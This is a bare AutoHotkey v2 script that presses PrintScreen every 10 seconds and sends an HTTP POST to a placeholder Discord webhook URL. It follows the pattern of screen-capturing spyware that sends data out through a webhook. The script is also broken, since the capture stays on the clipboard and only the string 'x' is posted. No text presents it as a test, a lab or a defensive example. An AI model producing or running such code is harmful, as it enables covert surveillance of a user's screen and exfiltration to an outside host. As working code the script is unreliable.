#Requires AutoHotkey v2.0
Shot() {
    Send "{PrintScreen}"
    req := ComObject("MSXML2.ServerXMLHTTP.6.0")
    req.open("POST", "https://discord.com/api/webhooks/1/x", false)
    req.send("x")
}
SetTimer Shot, 10000
